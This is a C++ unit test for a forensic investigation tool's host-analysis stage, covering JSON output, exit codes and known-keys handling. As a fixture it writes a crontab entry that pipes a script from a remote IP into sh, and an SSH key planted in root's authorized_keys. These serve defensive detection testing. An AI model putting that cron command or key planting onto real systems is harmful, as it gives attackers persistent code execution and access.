// The host stage through the command line: its options, its JSON section and its exit codes,
// run on the real binary over a small host tree.
#include <gtest/gtest.h>
#include <sys/wait.h>
#include <unistd.h>

#include <array>
#include <cstdio>
#include <filesystem>
#include <fstream>
#include <string>

#include "cli/cli_test_support.h"

namespace {

namespace fs = std::filesystem;

using tq::cli_test::Out;
using tq::cli_test::Tq;

void Write(const fs::path& p, const std::string& text) {
  fs::create_directories(p.parent_path());
  std::ofstream(p) << text;
}

TEST(InvestigateHost, JsonSectionExitCodesAndKnownKeys) {
  fs::path dir = fs::temp_directory_path() / ("tq-cli-host-" + std::to_string(::getpid()));
  fs::remove_all(dir);
  Write(dir / "host/var/spool/cron/crontabs/www-data",
        "*/5 * * * * curl -s http://198.51.100.7/x.sh | sh\n");
  Write(dir / "host/root/.ssh/authorized_keys",
        "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIJFxnM5mvr0tt0e5igPhNIVBw5ga4qABruTpD3eQz4X1 a@b\n");
  std::string c = (dir / "case").string();
  ASSERT_EQ(Tq("init " + c + " --name host").code, 0);
  ASSERT_EQ(Tq("--case " + c + " -q collect --label host " + (dir / "host").string()).code, 0);
  Out r = Tq("--case " + c + " --json investigate --only host");
  EXPECT_EQ(r.code, 1) << r.text;  // findings recorded
  EXPECT_NE(r.text.find("\"host\": {\"files\":2,\"read\":2,\"cron_entries\":1"), std::string::npos)
      << r.text;
  // A known-keys file without any key is an input error naming the file, not an I/O error.
  Write(dir / "known", "no keys here\n");
  Out bad = Tq("--case " + c + " investigate --only host --known-keys " + (dir / "known").string());
  EXPECT_NE(bad.code, 0);
  EXPECT_NE(bad.text.find((dir / "known").string()), std::string::npos) << bad.text;
  Out help = Tq("investigate --help");
  EXPECT_NE(help.text.find("--known-keys"), std::string::npos);
  EXPECT_NE(help.text.find("--max-host-file-mb"), std::string::npos);
  fs::remove_all(dir);
}

}  // namespace
